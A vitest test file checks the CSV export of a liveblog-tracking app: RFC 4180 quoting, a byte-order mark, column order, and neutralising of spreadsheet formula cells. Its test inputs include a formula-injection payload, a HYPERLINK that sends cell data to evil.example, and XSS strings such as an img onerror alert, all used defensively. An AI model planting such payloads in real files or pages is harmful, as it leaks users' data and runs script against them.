// CSV export: RFC 4180 quoting, and formula cells neutralised so a spreadsheet runs nothing.
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, csvCell, neutralise, toCsv } from '../../../lib/export/csv';
import { exportFile } from '../../../lib/export/index';
import { quoteItems, starredItems } from '../../../lib/library/items';
import { BLOGS, sampleSnapshot } from './sample';

/** A small RFC 4180 reader, to check that what we write reads back as the same cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else cell += c;
  }
  return rows;
}

describe('csv export', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '=HYPERLINK("http://evil.example/?"&A1)', '  =1', '\t=1', '\r=1', '＝1', '＠x'])(
    'neutralises the formula cell %j',
    (cell) => {
      expect(neutralise(cell)).toBe(`'${cell}`);
    },
  );

  it('leaves ordinary text alone', () => {
    for (const cell of ['Keir Starmer', 'a = b', 'x-y', 'mail@example.com', '', '2%']) expect(neutralise(cell)).toBe(cell);
  });

  it('quotes cells with commas, quotes and line breaks, doubling quotes', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvCell(null)).toBe('');
  });

  it('writes a header and one row per item that read back as the same cells', () => {
    const s = sampleSnapshot();
    const items = [...quoteItems(s), ...starredItems(s)];
    const rows = parseCsv(toCsv(items));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(items.length + 1);
    const hostile = rows.find((r) => r[11] === 'q-hostile-1')!;
    expect(hostile[3]).toBe(`'=HYPERLINK("http://evil.example/?"&A1)`);
    expect(hostile[4]).toBe('<img src=x onerror=alert(1)> *bold* [link](javascript:alert(1))\n# not a heading');
    const reeves = rows.find((r) => r[11] === 'q-reeves-01')!;
    expect(reeves.slice(0, 5)).toEqual(['quote', '2024-01-02T09:00:04.000Z', '2024-01-02T13:30:00Z', 'Rachel Reeves', 'Growth is up, and inflation is down to 2%.']);
    const entry = rows.find((r) => r[11] === 'post-3')!;
    expect(entry[0]).toBe('starred entry');
    // The time as the blog printed it: a new last column, so every older column keeps its place.
    expect(CSV_COLUMNS.slice(0, 12)).toEqual(['type', 'kept_at', 'entry_time', 'speaker', 'text', 'note', 'entry_title', 'blog_title', 'site', 'link', 'blog_url', 'id']);
    expect(rows[0]!.at(-1)).toBe('entry_time_as_printed');
    expect(rows.find((r) => r[11] === 'q-starmer-1')!.at(-1)).toBe('10.15 GMT');
    expect(rows.find((r) => r[11] === 'block-200')!.at(-1)).toBe('07.30 GMT');
    expect(reeves.at(-1)).toBe(''); // none printed: an empty cell, not a converted time
    // No cell of the whole file starts a formula.
    for (const r of rows) for (const c of r) expect(c).not.toMatch(/^[\s]*[=+\-@]/);
  });

  it('starts the file with a byte-order mark so spreadsheets read UTF-8', () => {
    const file = exportFile('csv', quoteItems(sampleSnapshot()), BLOGS, { now: Date.UTC(2024, 0, 3) });
    expect(file.text.startsWith('\ufefftype,')).toBe(true);
    expect(file.filename).toBe('liveblog-lens-2024-01-03.csv');
    expect(file.mime).toMatch(/^text\/csv/);
  });
});
